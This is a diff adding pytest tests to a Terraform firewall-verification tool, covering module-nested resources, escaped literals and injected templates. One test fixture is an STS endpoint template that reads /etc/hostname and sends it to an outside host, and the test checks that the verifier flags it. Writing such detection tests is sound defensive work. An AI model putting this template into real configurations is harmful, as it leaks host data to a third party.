@@ -20,8 +20,8 @@ from sxcloud.verify import verify
 from sxcloud.verify.aws import SecurityGroup
 from sxcloud.verify.azure import NetworkSecurityGroup
 from sxcloud.verify.tfjson import CDKTF, PLAN, STATE, Ref, Unknown, parse, read
-from tfshow import (applied, aws_block, aws_group_lists, aws_ids, azure_block, azure_ids, plan_document,
-                    refresh_planned_values, state_document)
+from tfshow import (applied, aws_block, aws_group_lists, aws_ids, azure_block, azure_ids,
+                    in_modules, plan_document, refresh_planned_values, state_document)
 from verifying import AWS_RULE_TYPES, NSG_RULE, intended, stacks
 
 AZURE_STACKS = ["mail-azure-cluster-azure", "mail-simple-azure", "mailcrypt-example-azure"]
@@ -334,3 +334,102 @@ def test_a_truly_unknown_list_is_an_opaque_finding(attribute, side, what, synthe
                       + " (unknown: azurerm_application_security_group.appliance_asg.id, "
                         "azurerm_application_security_group.appliance_asg, var.more) is not "
                         f"known in this document, so verify cannot tell {what}"]
+
+
+# --- resources inside modules -------------------------------------------------------------------
+
+def _unaddressed(firewall):
+    """The evaluated rules without their addresses (which name the module)."""
+    return sorted(rule[1:] if isinstance(firewall, SecurityGroup) else rule
+                  for rule in _rules(firewall))
+
+
+@pytest.mark.parametrize("name", ["mail-aws-cluster-aws", "mail-simple-azure"])
+@pytest.mark.parametrize("kind", ["plan", "state"])
+@pytest.mark.parametrize("modules, keys, numeric", [
+    (["fw"], None, False),
+    (["a", "b"], None, False),
+    (["a", "b"], ["x.y", 0], True),
+], ids=["module", "nested", "nested-keyed-numeric"])
+def test_module_plans_and_states_read_as_the_synthesized_json(name, kind, modules, keys, numeric,
+                                                              synthesized):
+    d, cloud, stack = _stack(synthesized, name)
+    data = (plan_document(stack, hcl=True) if kind == "plan" else
+            state_document(stack, aws_ids() if cloud == "aws" else azure_ids()))
+    data = in_modules(data, modules, numeric=numeric, module_keys=keys)
+    document = parse(data, f"{kind}.json")
+    prefix = document.resources[0].address.rsplit(".", 2)[0]
+    assert prefix.startswith("module.") and all(r.address.startswith(prefix)
+                                               for r in document.resources)
+    result = verify(d, cloud, document)
+    assert result.ok, [f.message for f in result.findings[:5]]
+    baseline = parse(stack, "cdk.tf.json")
+    assert _unaddressed(_firewall(d, cloud, document)) == _unaddressed(
+        _firewall(d, cloud, baseline))
+    assert (result.probes, result.decisions) == (verify(d, cloud, baseline).probes,
+                                                 verify(d, cloud, baseline).decisions)
+
+
+def test_a_rule_removed_from_a_nested_module_plan_is_caught(synthesized):
+    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
+    data = in_modules(plan_document(stack, hcl=True), ["a", "b"], module_keys=["k", None])
+    gone = ('module.a["k"].module.b.aws_vpc_security_group_ingress_rule.'
+            'this["R02_in_tcp22_sg_self"]')
+    module = data["planned_values"]["root_module"]["child_modules"][0]["child_modules"][0]
+    assert gone in [r["address"] for r in module["resources"]]
+    module["resources"] = [r for r in module["resources"] if r["address"] != gone]
+    result = verify(d, cloud, parse(data, "plan.json"))
+    assert intended(result) == {"R02 inbound TCP 22 from appliance_peers"}
+
+
+def test_a_module_reference_with_another_unknown_part_stays_unknown(synthesized):
+    """`each.value` beside the group is the conditional's other branch; a variable is not
+    known at plan time, so the value stays opaque."""
+    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
+    data = in_modules(plan_document(stack, hcl=True), ["fw"])
+    rule = next(r for r in data["configuration"]["root_module"]["module_calls"]["fw"]["module"]
+                ["resources"] if r["address"] == "aws_vpc_security_group_ingress_rule.this")
+    rule["expressions"]["referenced_security_group_id"]["references"].append("var.peer")
+    result = verify(d, cloud, parse(data, "plan.json"))
+    (opaque,) = [f.message for f in result.findings if f.kind == "opaque"]
+    assert "R02_in_tcp22_sg_self" in opaque and "var.peer" in opaque
+
+
+# --- templates and escapes in cdk.tf.json -------------------------------------------------------
+
+def test_escaped_literals_read_as_terraform_reads_them(synthesized):
+    d, cloud, stack = _stack(synthesized, "mail-aws-cluster-aws")
+    stack = copy.deepcopy(stack)
+    group = stack["resource"]["aws_security_group"]["appliance"]
+    group["tags"]["note"] = "costs $${x} %%{y}"
+    document = parse(stack, "cdk.tf.json")
+    assert document.problems == []
+    assert document.of_type("aws_security_group")[0].values["tags"]["note"] == "costs ${x} %{y}"
+    assert verify(d, cloud, document).ok
+
+
+@pytest.mark.parametrize("where, value", [
+    ("provider.aws[0].endpoints[0].sts", 'http://h/${filebase64("/etc/hostname")}'),
+    ("resource.aws_security_group.appliance.description", "x %{ for a in b }y%{ endfor }"),
+    ("resource.aws_security_group.appliance.vpc_id", "${aws_vpc.elsewhere.id}"),
+])
+def test_a_template_sxcloud_did_not_write_is_a_finding(where, value, synthesized, tmp_path,
+                                                       capsys):
+    """Issue 9, item 3: verify passed injected endpoints and ARM ids with exit 0."""
+    name = "mail-aws-cluster-aws"
+    stack = copy.deepcopy(synthesized.stack(name))
+    node = stack
+    parts = where.replace("[0]", ".0").split(".")
+    for part, after in zip(parts[:-1], parts[1:]):  # made where missing (endpoints)
+        if part.isdigit():
+            node = node[0] if node else (node.append({}) or node[0])
+        else:
+            node = node.setdefault(part, [] if after.isdigit() else {})
+    node[parts[-1]] = value
+    folder = tmp_path / "out" / "stacks" / name
+    folder.mkdir(parents=True)
+    (folder / "cdk.tf.json").write_text(json.dumps(stack))
+    example = next(p for p in EXAMPLES if p.name == "aws-cluster-ipv6.yaml")
+    assert main(["verify", str(example), "--synth-dir", str(tmp_path / "out")]) == 1
+    out = capsys.readouterr().out
+    assert f"invalid    {where}: this value is evaluated by Terraform: " in out
